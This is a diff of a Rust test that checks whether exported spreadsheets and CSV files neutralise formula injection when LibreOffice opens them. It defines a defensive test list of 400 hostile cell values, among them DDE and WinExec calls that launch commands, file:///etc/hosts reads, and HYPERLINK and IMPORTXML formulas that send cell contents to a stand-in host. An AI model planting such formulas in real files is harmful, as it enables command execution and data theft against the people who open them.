@@ -19,20 +19,50 @@ use motcua::domain::report::sheet::Sheet;
 use motcua::domain::report::{Kind, make};
 use motcua::domain::row::RowDraft;
 use motcua::exchange::sheet::to_csv;
+use motcua::exchange::table;
 use motcua::exchange::workbook::to_xlsx;
 use rust_xlsxwriter::{Formula, Workbook};
+use std::collections::BTreeSet;
 use std::path::{Path, PathBuf};
 use std::process::Command;
 
-/// What a spreadsheet would compute, or reach out for, if it were taken for a formula.
-const PAYLOADS: [&str; 6] = [
-    "=1+1",
-    "=HYPERLINK(\"http://example.invalid\")",
-    "@SUM(A1:A9)",
-    "+1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "=WEBSERVICE(\"http://example.invalid\")",
+/// What a formula begins with, or is hidden behind, in one spreadsheet or another.
+const BEGINNINGS: [&str; 16] =
+    ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u{a0}=", "＝", "＋", "－", "＠", "=+", "\"=", "Lan\n="];
+
+/// What would be computed, fetched or run.
+const BODIES: [&str; 25] = [
+    "1+1",
+    "SUM(A1:A9)",
+    "HYPERLINK(\"http://example.invalid\")",
+    "HYPERLINK(\"http://example.invalid/\"&A1;\"xem\")",
+    "WEBSERVICE(\"http://example.invalid\")",
+    "cmd|' /C calc'!A0",
+    "2+3+cmd|' /C calc'!A0",
+    "DDE(\"cmd\";\"/C calc\";\"x\")",
+    "DDE(\"soffice\";\"/etc/hosts\";\"A1\")",
+    "MSEXCEL|'\\..\\..\\cmd.exe'!''",
+    "IMPORTXML(CONCAT(\"http://example.invalid/\";A1);\"//a\")",
+    "IMAGE(\"http://example.invalid/x.png\")",
+    "'file:///etc/hosts'#$Sheet1.A1",
+    "'[http://example.invalid/b.xlsx]S'!A1",
+    "INDIRECT(\"A1\")",
+    "NOW()",
+    "RAND()",
+    "EXEC(\"calc\")",
+    "CALL(\"kernel32\";\"WinExec\")",
+    "REGISTER.ID(\"x\";\"y\")",
+    "FILTERXML(\"<a/>\";\"//a\")",
+    "CELL(\"filename\")",
+    "INFO(\"directory\")",
+    "IF(1;HYPERLINK(\"http://example.invalid\");0)",
+    "A1",
 ];
+
+/// Four hundred names that would be computed, or reach out, if they were taken for formulas.
+fn payloads() -> Vec<String> {
+    BEGINNINGS.iter().flat_map(|begins| BODIES.iter().map(move |body| format!("{begins}{body}"))).collect()
+}
 
 /// Settings of a spreadsheet that trusts no result it finds: every formula is computed at opening.
 const ALWAYS_COMPUTE: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
@@ -99,8 +129,8 @@ fn sheets() -> Vec<Sheet> {
 /// Files whose owners have the names of formulas.
 fn hostile() -> Sheet {
     let mut rows = Projection::default();
-    for (id, name) in (1..).zip(PAYLOADS) {
-        let told = story().does(&Action::Receive(Box::new(file(name))));
+    for (id, name) in (1..).zip(payloads()) {
+        let told = story().does(&Action::Receive(Box::new(file(&name))));
         rows.upsert(&RowDraft::of(&Case { id: CaseId(id), ..told.case().clone() }));
     }
     let (law, office) = (law(), office());
@@ -117,14 +147,17 @@ fn libreoffice_computes_what_the_screen_shows_and_nothing_else() {
     let (sheets, hostile, words) = (sheets(), hostile(), words());
     let mut names = vec!["lying.xlsx".to_owned(), "raw.csv".to_owned()];
     lying(&folder.path().join("lying.xlsx"));
-    let raw: Vec<String> = PAYLOADS.iter().map(|one| format!("\"{}\"", one.replace('"', "\"\""))).collect();
+    let raw: Vec<String> = payloads().iter().map(|one| format!("\"{}\"", one.replace('"', "\"\""))).collect();
     std::fs::write(folder.path().join("raw.csv"), raw.join("\n")).unwrap();
     let mut put = |name: String, bytes: Vec<u8>| {
         std::fs::write(folder.path().join(&name), bytes).unwrap();
         names.push(name);
     };
     put("hostile.xlsx".to_owned(), to_xlsx(&hostile, &words).unwrap());
-    put("hostile-text.csv".to_owned(), to_csv(&hostile, &words).unwrap().into_bytes());
+    put("hostile-text.csv".to_owned(), table::file_of(to_csv(&hostile, &words).unwrap()));
+    // A list as the queue writes it out, the same text in two columns.
+    let rows: Vec<Vec<String>> = payloads().into_iter().map(|one| vec![one.clone(), one]).collect();
+    put("list.csv".to_owned(), table::file_of(table::csv(&rows).unwrap()));
     for (at, sheet) in sheets.iter().enumerate() {
         put(format!("report-{at}.xlsx"), to_xlsx(sheet, &words).unwrap());
     }
@@ -133,17 +166,24 @@ fn libreoffice_computes_what_the_screen_shows_and_nothing_else() {
     let (values, _) = cells(&books[0]);
     assert_eq!(values, [Data::Float(42.0)], "formulas are computed, not believed");
     let (_, formulas) = cells(&books[1]);
-    assert!(formulas.len() >= 3, "left alone, such names are formulas: {formulas:?}");
-    for book in &books[2..4] {
+    assert!(formulas.len() >= 25, "left alone, such names are formulas: {formulas:?}");
+    for book in &books[2..5] {
         let (values, formulas) = cells(book);
         assert!(formulas.is_empty(), "{formulas:?}");
-        for payload in PAYLOADS {
-            let kept = |text: &str| text == payload || text.strip_prefix('\'') == Some(payload);
-            let found = values.iter().any(|cell| matches!(cell, Data::String(text) if kept(text)));
-            assert!(found, "{payload} stays what it is: {values:?}");
+        // Every one of them stays a text; spaces, line ends and what LibreOffice takes a CSV's letters for aside.
+        let plain = |text: &str| text.chars().filter(char::is_ascii_graphic).collect::<String>();
+        let texts: BTreeSet<String> = values
+            .iter()
+            .filter_map(|cell| if let Data::String(text) = cell { Some(plain(text)) } else { None })
+            .map(|text| text.trim_start_matches('\'').to_owned())
+            .collect();
+        for payload in payloads() {
+            let kept = plain(&payload);
+            let kept = kept.trim_start_matches('\'');
+            assert!(texts.contains(kept), "{payload:?} stays what it is");
         }
     }
     let figures: usize =
-        sheets.iter().zip(&books[4..]).map(|(sheet, book)| figures_read_back(sheet, book.clone())).sum();
+        sheets.iter().zip(&books[5..]).map(|(sheet, book)| figures_read_back(sheet, book.clone())).sum();
     assert!(figures > 300, "{figures}");
 }
